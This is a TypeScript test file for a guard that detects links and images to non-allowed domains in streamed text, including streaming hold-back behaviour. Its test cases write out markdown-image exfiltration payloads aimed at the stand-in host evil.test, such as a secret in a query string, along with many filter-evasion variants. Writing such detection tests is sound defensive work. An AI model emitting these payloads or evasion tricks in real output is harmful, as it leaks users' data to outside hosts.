import { describe, expect, it } from 'vitest';
import { LinksGuardSchema } from '../config/sections/guards.js';
import { VIOLATION } from './guard-types.js';
import { canonicalHost, linksGuard } from './links.js';

const guard = (options: object = {}) => linksGuard(LinksGuardSchema.parse({ allowDomains: ['example.com', '*.cdn.example.org'], ...options }));

/** Whole text at once (a JSON answer): true when the guard finds a violation. */
function violates(text: string, options: object = {}): boolean {
  const s = guard(options).open();
  return s.push('0', text) === VIOLATION || s.finish('0');
}

describe('links guard', () => {
  it.each([
    ['markdown image to another domain', '![x](https://evil.test/p.png?d=secret)'],
    ['markdown link to another domain', 'see [docs](http://evil.test/a)'],
    ['bare URL', 'go to https://evil.test now'],
    ['autolink', '<https://evil.test/x>'],
    ['www autolink', 'visit www.evil.test/page'],
    ['reference definition', '![chart][1]\n\n[1]: https://evil.test/c.png'],
    ['HTML img src', '<img src="https://evil.test/p.gif">'],
    ['protocol-relative image', '![x](//evil.test/p.png)'],
    ['user info before the host', '![x](https://example.com@evil.test/p.png)'],
    ['a look-alike suffix', '![x](https://notexample.com/p.png)'],
    ['percent-encoded dot', '![x](https://evil%2Etest/p.png)'],
    ['backslashes for slashes', '![x](https:\\\\evil.test/p.png)'],
    ['an extra slash', '![x](https:///evil.test/p.png)'],
    ['upper-case scheme and host', '![x](HTTPS://EVIL.TEST/p.png)'],
    ['an open redirect on an allowed host', '![x](https://example.com/r?to=https://evil.test/p.png)'],
    ['after an underscore (renderers link it)', 'see _https://evil.test_'],
    ['an IPv6 literal', '![x](https://[2001:db8::1]:8080/p.png)'],
    ['a host that is not a host name', '![x](https://exa mple.com/p.png)'],
  ])('finds %s', (_name, text) => {
    expect(violates(text)).toBe(true);
  });

  it.each([
    ['an allowed domain', '![x](https://example.com/p.png) and https://example.com'],
    ['a subdomain of an allowed domain', '![x](https://img.example.com/p.png)'],
    ['a wildcard subdomain', '![x](https://a.cdn.example.org/p.png)'],
    ['an allowed host with a port and a trailing dot', '![x](https://example.com.:8443/p.png)'],
    ['a relative link', '[home](/index.html) and ![logo](img/logo.png)'],
    ['a scheme glued to a word', 'thehttps://evil.test is not a link a renderer makes'],
    ['plain prose', 'Use the http protocol; www is short for world wide web.'],
  ])('lets %s through', (_name, text) => {
    expect(violates(text)).toBe(false);
  });

  it('checks only what it is told to: images only leaves links alone', () => {
    expect(violates('[docs](https://evil.test/a) and https://evil.test', { links: false })).toBe(false);
    expect(violates('![x](https://evil.test/a.png)', { links: false })).toBe(true);
    expect(violates('![x](https://evil.test/a.png)', { images: false })).toBe(false);
  });

  it('canonicalises hosts as a browser does', () => {
    expect(canonicalHost('EXAMPLE.com.')).toBe('example.com');
    expect(canonicalHost('ex%61mple.com')).toBe('example.com');
    expect(canonicalHost('bücher.example')).toBe('xn--bcher-kva.example');
    expect(canonicalHost('0x7f.1')).toBe('127.0.0.1');
    expect(canonicalHost('')).toBeUndefined();
  });

  it('holds a URL back until its host is complete, and a partial scheme at the end', () => {
    const s = guard().open();
    expect(s.push('0', 'Look: ![x](htt')).toBe('Look: ![x]('.length);
    expect(s.push('0', 'ps://example.c')).toBe('Look: ![x]('.length);
    expect(s.push('0', 'om/p.png) done.')).toBe('Look: ![x](https://example.com/p.png) done.'.length);
    const t = guard().open();
    expect(t.push('0', '![x](https://ev')).toBe(5);
    expect(t.push('0', 'il.test/')).toBe(VIOLATION);
  });
});
